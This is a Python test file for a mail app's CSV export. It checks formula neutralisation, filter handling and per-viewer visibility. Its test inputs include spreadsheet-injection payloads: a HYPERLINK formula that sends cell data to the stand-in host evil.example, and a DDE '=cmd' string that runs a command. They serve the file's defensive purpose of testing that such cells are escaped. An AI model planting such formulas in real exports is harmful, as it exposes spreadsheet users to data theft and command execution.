"""CSV export: formula cells neutralised, the page's filter applied, and only what the viewer may see."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime

from starlette.testclient import TestClient

from store import LinkChip, MessageFilter, MessageRow, Store
from tests.store.world import ADA, ANNA, PAWEL, VISIBLE, World, file_message, person
from web.export import CSV_COLUMNS, csv_cell, csv_lines, csv_row

ClientFor = Callable[[str | None], TestClient]


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cells_a_spreadsheet_would_run_get_a_quote() -> None:
    assert csv_cell('=HYPERLINK("http://evil.example","click")') == '\'=HYPERLINK("http://evil.example","click")'
    assert csv_cell("+1") == "'+1"
    assert csv_cell("-2") == "'-2"
    assert csv_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert csv_cell("\t=1+1") == "'\t=1+1"
    assert csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("Re: =offer") == "Re: =offer"  # only the first character matters
    assert csv_cell(None) == ""
    assert csv_cell(42) == "42"


def test_every_cell_of_a_row_is_neutralised() -> None:
    row = MessageRow(
        id=7,
        subject="=cmd|' /C calc'!A0",
        date=datetime(2026, 3, 2, 9, 30, tzinfo=UTC),
        direction="incoming",
        kind="redirect",
        submitter="@boss",
        from_name="-Mallory",
        from_address="+mallory@example.com",
        links=(LinkChip("client", 1, "Acme", "address"), LinkChip("record", 2, "OP-1", "code")),
        sources=("api", "smtp"),
    )
    assert csv_row(row) == [
        "7",
        "2026-03-02T09:30:00+00:00",
        "incoming",
        "redirect",
        "'@boss",
        "'-Mallory",
        "'+mallory@example.com",
        "'=cmd|' /C calc'!A0",
        "client:Acme; record:OP-1",
        "api; smtp",
    ]
    chunks = list(csv_lines([row] * 5, chunk=2))
    assert len(chunks) == 3
    assert "".join(chunks).startswith(",".join(CSV_COLUMNS) + "\r\n")


def test_export_escapes_formulas_from_real_mail(store: Store, world: World, client_for: ClientFor) -> None:
    anna = (ANNA.email, world.users[ANNA.email])
    evil = file_message(
        store,
        submitter=anna,
        key="<evil@example.net>",
        subject='=HYPERLINK("http://evil.example/?"&A1,"Invoice")',
        date=datetime(2026, 3, 9, tzinfo=UTC),
        kind="redirect",
        direction="incoming",
        sender=("+1@evil.example", "-2 Accounts"),
        participants=(person("from", "+1@evil.example", "-2 Accounts"), person("to", ANNA.email)),
    )

    response = client_for(ANNA.email).get("/messages.csv?kind=redirect")

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="messages.csv"'
    rows = parse(response.text)
    assert list(rows[0]) == list(CSV_COLUMNS)
    (row,) = (r for r in rows if r["id"] == str(evil))
    assert row["subject"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
    assert row["from_address"] == "'+1@evil.example"
    assert row["from_name"] == "'-2 Accounts"
    assert row["submitter"] == ANNA.name
    assert {r["kind"] for r in rows} == {"redirect"}


def test_export_is_the_visible_part_of_the_filter(store: Store, world: World, client_for: ClientFor) -> None:
    for email in (ADA.email, ANNA.email, PAWEL.email):
        rows = parse(client_for(email).get("/messages.csv").text)
        ids = [int(r["id"]) for r in rows]
        viewer = world.viewer(store, email)
        assert ids == [r.id for r in store.queries.iter_messages(viewer, MessageFilter())], email
        assert set(ids) == world.ids(*VISIBLE[email]), email

    pawel = parse(client_for(PAWEL.email).get(f"/messages.csv?client={world.acme}&after=ignored&limit=1").text)
    assert [int(r["id"]) for r in pawel] == [world.m["deal"]]  # the whole filter, not one page of it
    deal = pawel[0]
    assert (deal["direction"], deal["kind"], deal["links"]) == ("outgoing", "bcc", f"record:OP-123; user:{PAWEL.name}")


def test_export_of_a_bad_filter_is_a_400(world: World, client_for: ClientFor) -> None:
    response = client_for(ADA.email).get("/messages.csv?direction=up")
    assert response.status_code == 400
    assert "direction: must be one of incoming, outgoing" in response.text
